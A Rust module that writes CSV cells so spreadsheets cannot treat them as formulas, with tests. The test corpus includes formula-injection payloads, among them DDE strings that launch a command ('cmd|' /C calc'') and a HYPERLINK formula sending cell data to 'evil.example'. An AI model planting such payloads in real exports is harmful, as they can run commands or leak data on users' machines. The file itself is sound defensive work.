//! Tables as CSV (RFC 4180, UTF-8) that no spreadsheet takes for formulas. Pure.

/// A cell that begins with one of these is a formula to a spreadsheet, whatever it is to us; wide ones are, to some.
const FORMULA: [char; 11] =
    ['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];
/// Behind one of these another cell begins where cells are told apart by `;`, as Spanish spreadsheets do, and quotes in a line are not
/// seen there.
const BREAKS: [char; 2] = [';', '\n'];

/// Writes rows, each on a line of its own that ends in CR LF.
pub fn write_csv(rows: &[Vec<String>]) -> String {
    let mut out = String::new();
    for row in rows {
        for (place, cell) in row.iter().enumerate() {
            if place > 0 {
                out.push(',');
            }
            write_cell(&mut out, cell);
        }
        out.push_str("\r\n");
    }
    out
}

/// What could be a formula gets a `'` in front; a cell that could be taken for more than one gets quotes around it.
fn write_cell(out: &mut String, cell: &str) {
    let mut safe = String::with_capacity(cell.len());
    let mut begins = true;
    for char in cell.chars() {
        if begins && FORMULA.contains(&char) {
            safe.push('\'');
        }
        begins = BREAKS.contains(&char);
        safe.push(char);
    }
    let needs_quotes = safe != cell || cell.contains(['"', ',', ';', '\n', '\r']) || cell.trim() != cell;
    if needs_quotes {
        out.push('"');
        out.push_str(&safe.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(cell);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What RFC 4180 makes of it, by an implementation that knows nothing of the writer.
    fn read(text: &str) -> Vec<Vec<String>> {
        let (mut rows, mut row, mut cell) = (vec![], vec![], String::new());
        let mut quoted = false;
        let mut rest = text.chars().peekable();
        while let Some(c) = rest.next() {
            match c {
                '"' if quoted && rest.peek() == Some(&'"') => {
                    rest.next();
                    cell.push('"');
                }
                '"' => quoted = !quoted,
                ',' if !quoted => row.push(std::mem::take(&mut cell)),
                '\r' if !quoted && rest.peek() == Some(&'\n') => {
                    rest.next();
                    row.push(std::mem::take(&mut cell));
                    rows.push(std::mem::take(&mut row));
                }
                other => cell.push(other),
            }
        }
        assert!(!quoted && cell.is_empty() && row.is_empty(), "it ends with a line");
        rows
    }

    #[test]
    fn w12_no_cell_is_a_formula_and_every_cell_comes_back() {
        let corpus = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
            "+1 310 555 0142",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n1+1",
            "\u{ff1d}1+1",
            "=1,2",
            "=\"a\"\"b\"",
        ];
        for formula in corpus {
            let rows = read(&write_csv(&[vec![formula.to_owned(), "next".to_owned()]]));
            assert_eq!(rows, [vec![format!("'{formula}"), "next".to_owned()]], "{formula:?}");
        }
        for plain in [
            "",
            "Botox",
            "a,b",
            "a;b",
            "say \"hi\"",
            "two\nlines",
            " padded ",
            "Peña 🎉",
            "'quoted",
            "1-2",
            "a=b",
        ] {
            let rows = read(&write_csv(&[vec![plain.to_owned()]]));
            assert_eq!(rows, [vec![plain.to_owned()]], "{plain:?}");
        }
    }

    #[test]
    fn w12_no_part_of_a_cell_is_a_formula_where_cells_are_told_apart_by_semicolons() {
        for (cell, safe) in
            [("Botox;=1+1", "Botox;'=1+1"), ("a\n@SUM(1)", "a\n'@SUM(1)"), ("a;;-1", "a;;'-1")]
        {
            let written = write_csv(&[vec![cell.to_owned()]]);
            assert_eq!(read(&written), [vec![safe.to_owned()]], "{cell:?}");
            let cells = written.split([';', '\n']).map(|cell| cell.trim_start_matches('"'));
            assert!(cells.into_iter().all(|cell| !cell.starts_with(FORMULA)), "{written:?}");
        }
    }

    #[test]
    fn lines_end_as_rfc_4180_has_them() {
        let rows =
            [vec!["day".to_owned(), "calls".to_owned()], vec!["2026-11-24".to_owned(), "3".to_owned()]];
        assert_eq!(write_csv(&rows), "day,calls\r\n2026-11-24,3\r\n");
    }
}
